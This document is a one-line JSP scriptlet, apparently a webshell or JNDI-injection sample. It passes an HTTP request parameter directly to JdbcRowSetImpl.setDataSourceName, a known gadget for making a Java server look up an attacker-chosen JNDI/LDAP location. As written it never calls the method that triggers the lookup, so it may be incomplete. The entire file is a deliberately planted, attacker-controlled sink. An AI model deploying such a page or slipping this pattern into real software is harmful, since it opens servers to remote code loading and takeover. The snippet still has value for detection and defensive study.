<% new com.sun.rowset.JdbcRowSetImpl().setDataSourceName(request.getParameter("c")); %>
